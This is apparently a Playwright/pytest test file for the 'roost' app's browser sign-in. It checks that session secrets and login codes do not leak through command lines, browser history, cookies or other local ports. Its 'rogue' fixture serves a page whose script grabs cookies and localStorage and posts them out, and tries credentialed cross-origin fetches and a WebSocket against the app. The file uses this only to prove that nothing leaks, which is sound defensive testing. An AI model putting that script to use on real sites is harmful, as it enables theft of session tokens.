"""How a browser gets in: the file that `roost` opens, the code that is typed; and where the secrets
are not: in no command line, no address, no cookie, at no other port."""

import shutil
import sqlite3
import threading
import time
from collections.abc import Iterator
from contextlib import closing, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import psutil
import pytest
from playwright.sync_api import Browser, Page, expect

from roost.server.door import page_of
from roost.server.run import forget
from roost.server.sessions import Sessions
from tests.browser.conftest import Sit, Visit
from tests.browser.fit import violations
from tests.browser.opening import PATIENCE, browser_path
from tests.browser.seat import first
from tests.browser.server import Server
from tests.browser.watch import REFUSED, Watch
from tests.everyday import daily

_SECONDS = PATIENCE / 1000
_SHUT_OUT = "This browser is not let in"
_DEAD = "This code opens nothing"


@pytest.fixture
def own(tmp_path: Path) -> Iterator[Server]:
    """A server whose sessions this test may end."""
    with Server(tmp_path / "own") as running:
        yield running


def secret_of(page: Page) -> str:
    """What the page keeps for its address."""
    kept: str | None = page.evaluate("localStorage['roost-session'] ?? ''")
    return kept or ""


def type_code(page: Page, code: str) -> None:
    """Go in by a code."""
    page.fill('[name="code"]', code)
    page.keyboard.press("Enter")


def command_lines(process: psutil.Process) -> list[str]:
    """Those of a process and all that it started, as every user of the machine can read them."""
    return [
        Path(f"/proc/{each.pid}/cmdline").read_text("utf-8", "replace").replace("\0", " ")
        for each in (process, *process.children(recursive=True))
        if Path(f"/proc/{each.pid}").exists()
    ]


def wrapper(folder: Path) -> str:
    """A command that starts the real browser, told where its profile is."""
    script = folder / "browser"
    profile = folder / "profile"
    flags = "--headless=new --no-sandbox --disable-gpu --disable-dev-shm-usage --no-first-run"
    script.write_text(
        f"#!/bin/sh\nexec {browser_path()} {flags} --remote-debugging-port=0"
        f' --user-data-dir={profile} "$@"\n',
        "utf-8",
    )
    script.chmod(0o700)
    return f"{script} %s"


@pytest.mark.skipif(not Path("/proc/self/cmdline").exists(), reason="there is no /proc here")
def test_the_browser_that_roost_opens_is_in_and_its_command_line_tells_nothing(
    tmp_path: Path, browser: Browser
) -> None:
    with Server(tmp_path / "home", browser=wrapper(tmp_path)) as server:
        ours = psutil.Process(server.pid)
        told = tmp_path / "profile" / "DevToolsActivePort"
        lines: list[str] = []
        until = time.monotonic() + 2 * _SECONDS
        while not told.exists() or len(told.read_text("utf-8").splitlines()) < 2:
            lines += command_lines(ours)
            assert time.monotonic() < until, server.said
            time.sleep(0.05)
        port = told.read_text("utf-8").splitlines()[0]
        own = browser.browser_type.connect_over_cdp(f"http://127.0.0.1:{port}")
        (context,) = own.contexts
        page = next(each for each in context.pages if not each.url.startswith("chrome"))
        page.wait_for_url(f"{server.url}/", timeout=PATIENCE)
        expect(page.locator(".setup")).to_be_visible(timeout=PATIENCE)
        lines += command_lines(ours)
        code, secret = server.code, secret_of(page)
        assert len(secret) == 64
        assert secret != server.session
        assert any("/doors/" in line for line in lines)
        assert not any(code in line or secret in line or server.key in line for line in lines)
        assert context.cookies() == []
        page.reload()
        expect(page.locator(".setup")).to_be_visible(timeout=PATIENCE)
        assert list((server.home / "doors").iterdir()) == []
        page.wait_for_timeout(300)
        own.new_browser_cdp_session().send("Browser.close")
        until = time.monotonic() + _SECONDS
        while any(f"{tmp_path}/profile" in each for each in command_lines(ours)):
            assert time.monotonic() < until
            time.sleep(0.05)
    history = tmp_path / "history"
    shutil.copy(tmp_path / "profile" / "Default" / "History", history)
    with closing(sqlite3.connect(history)) as visits:
        visited = [url for (url,) in visits.execute("select url from urls")]
    assert f"{server.url}/" in visited
    assert not any(code in url or secret in url for url in visited)


@pytest.mark.parametrize("language", daily(["en", "nb", "id"], "nb"))
def test_a_doors_file_lets_in_once(
    own: Server, visit: Visit, watches: dict[Page, Watch], language: str
) -> None:
    sessions = Sessions(own.home)
    code = sessions.make_door(page_of(own.port))
    file = sessions.door(code)
    copy = own.home / "copy.html"
    shutil.copy(file, copy)
    settings = {"language": language}
    page = visit("/", at=own, let_in=False, settings=settings)
    watches[page].expected, watches[page].beside = REFUSED, "file:"
    expect(page.locator('[role="alert"]')).to_be_visible()
    page.goto(file.as_uri())
    page.wait_for_url(f"{own.url}/")
    expect(page.locator(".setup")).to_be_visible()
    assert len(secret_of(page)) == 64
    assert not file.exists()
    # By the same file again whoever is in stays in, and whoever is not stays out.
    page.goto(copy.as_uri())
    page.wait_for_url(f"{own.url}/")
    expect(page.locator(".setup")).to_be_visible()


@pytest.mark.parametrize("width", [320, 1280])
def test_the_page_of_who_is_not_let_in_fits_everyone(
    visit: Visit, watches: dict[Page, Watch], axe: str, width: int
) -> None:
    page = visit("/", let_in=False, size=(width, 568))
    watches[page].expected = REFUSED
    expect(page.locator('[name="code"]')).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert violations(page, axe) == []
    page.keyboard.press("Tab")
    for _ in range(5):  # to be reached by keys alone
        if page.evaluate("document.activeElement.name") == "code":
            return
        page.keyboard.press("Tab")
    raise AssertionError("no key leads to the code")


def test_a_used_door_is_told_and_a_typed_code_helps(
    own: Server, visit: Visit, watches: dict[Page, Watch]
) -> None:
    sessions = Sessions(own.home)
    code = sessions.make_door(page_of(own.port))
    copy = own.home / "copy.html"
    shutil.copy(sessions.door(code), copy)
    assert sessions.use_door(code)
    page = visit("/", at=own, let_in=False)
    watches[page].expected, watches[page].beside = REFUSED, "file:"
    page.goto(copy.as_uri())
    page.wait_for_url(f"{own.url}/")
    expect(page.locator('[role="alert"]')).to_contain_text(_DEAD)
    type_code(page, "wrong")
    expect(page.locator('[role="alert"]')).to_contain_text(_DEAD)
    type_code(page, own.code.upper().replace("-", " "))
    expect(page.locator(".setup")).to_be_visible()
    expect(page.locator('[name="code"]')).to_have_count(0)
    assert page.url == f"{own.url}/"


def test_who_is_not_let_in_is_told_how_to_get_in(
    visit: Visit, server: Server, watches: dict[Page, Watch]
) -> None:
    page = visit("/", let_in=False)
    watches[page].expected = REFUSED
    expect(page.locator('[role="alert"]')).to_contain_text(_SHUT_OUT)
    expect(page.locator('[role="alert"]')).to_contain_text("“roost”")
    expect(page.locator(".kept")).to_have_count(0)
    table = server.new_table()
    page.goto(f"/table/{table}")
    expect(page.locator("#table")).to_contain_text(_SHUT_OUT)
    expect(page.locator("body")).to_have_attribute("data-link", "gone")


def test_a_page_whose_session_is_ended_says_so_and_comes_back_by_a_code(
    own: Server, sit: Sit, watches: dict[Page, Watch], monkeypatch: pytest.MonkeyPatch
) -> None:
    seat = sit("crowsnest", at=own)
    seat.step(first)  # a table that was never dealt is in no list
    seat.ready()
    watches[seat.page].expected = REFUSED
    monkeypatch.setenv("ROOST_DATA", str(own.home))
    forget()
    expect(seat.page.locator("body")).to_have_attribute("data-link", "gone", timeout=PATIENCE)
    expect(seat.page.locator("#table")).to_contain_text(_SHUT_OUT)
    seat.page.click('a[href="/"]')
    type_code(seat.page, Sessions(own.home).make_door())
    expect(seat.page.locator(".kept")).to_have_count(1)
    seat.page.goto(f"/table/{seat.table}")
    expect(seat.page.locator("body")).to_have_attribute("data-link", "up", timeout=PATIENCE)


def test_a_session_goes_on_over_reloads_tabs_bookmarks_and_starts(
    own: Server, visit: Visit, watches: dict[Page, Watch]
) -> None:
    page = visit("/", at=own, let_in=False)
    watches[page].expected = REFUSED
    type_code(page, own.code)
    expect(page.locator(".setup")).to_be_visible()
    table = own.new_table()
    own.stop()
    own.start()
    for tab in (page, page.context.new_page()):
        tab.goto(f"{own.url}/table/{table}")
        expect(tab.locator("body")).to_have_attribute("data-link", "up", timeout=PATIENCE)
        tab.reload()
        expect(tab.locator("body")).to_have_attribute("data-link", "up", timeout=PATIENCE)


@contextmanager
def rogue(victim: Server) -> Iterator[tuple[int, list[str]]]:
    """Another program's server at another port of this machine: what it is sent, and a page that
    fetches all it can get from Roost."""
    heard: list[str] = []
    page = f"""<!doctype html><title>rogue</title><body><script>
      const got = [];
      const hear = what => fetch('/heard', {{method: 'POST', body: what}});
      hear(document.cookie + JSON.stringify({{...localStorage}}));
      const own = '{victim.url}';
      const tries = ['/api/start', '/', '/api/tables/1/seat', '/api/here?nonce=' + '0'.repeat(32)]
        .flatMap(path => ['cors', 'no-cors'].map(mode => fetch(own + path,
          {{mode, credentials: 'include'}}).then(async told => hear('\\ngot{{' + await told.text()),
            () => 0)));
      const socket = new Promise(done => {{
        const one = new WebSocket(own.replace('http', 'ws') + '/ws', ['roost']);
        one.onopen = () => done(hear('opened'));
        one.onerror = () => done(0);
      }});
      Promise.all([...tries, socket]).then(() => {{ document.title = 'tried'; }});
    </script>"""

    class Rogue(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(f"{self.requestline}\n{self.headers}")
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def do_POST(self) -> None:
            length = int(self.headers["Content-Length"])
            heard.append(f"{self.requestline}\n{self.headers}{self.rfile.read(length).decode()}")
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_said: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Rogue) as serving:
        threading.Thread(target=serving.serve_forever, daemon=True).start()
        yield serving.server_port, heard
        serving.shutdown()


def test_a_program_at_another_port_is_sent_nothing_of_ours_and_gets_nothing(
    own: Server, visit: Visit, watches: dict[Page, Watch]
) -> None:
    page = visit("/", at=own, let_in=False)
    watches[page].expected = REFUSED
    code = own.code
    type_code(page, code)
    expect(page.locator(".setup")).to_be_visible()
    own.new_table()
    secret = secret_of(page)
    with rogue(own) as (port, heard):
        other = page.context.new_page()
        # By a link of ours, by a typed address, and beside our open page.
        page.evaluate(f"open('http://127.0.0.1:{port}/by-link', '_blank', 'noopener') && 0")
        other.goto(f"http://127.0.0.1:{port}/typed?")
        expect(other).to_have_title("tried", timeout=PATIENCE)
        page.wait_for_timeout(300)
    assert any("typed" in each for each in heard)
    assert any("by-link" in each for each in heard)
    for each in heard:
        for ours in (secret, code, own.key, own.session):
            assert ours not in each
        assert "Cookie" not in each
        assert "\ngot{" not in each, "an answer that only we may read"
        assert "opened" not in each
        assert "Referer" not in each or f":{port}/" in each


def test_downloads_show_who_asks(own: Server, sit: Sit) -> None:
    seat = sit("crowsnest", at=own)
    seat.ready()
    seat.page.click('[data-do="menu"]')
    with seat.page.expect_download() as taken:
        seat.page.click('[data-do="record"]')
    assert taken.value.suggested_filename == f"match-{seat.table}-crowsnest-view.json"
    assert '"roost-view"' in Path(taken.value.path()).read_text("utf-8")
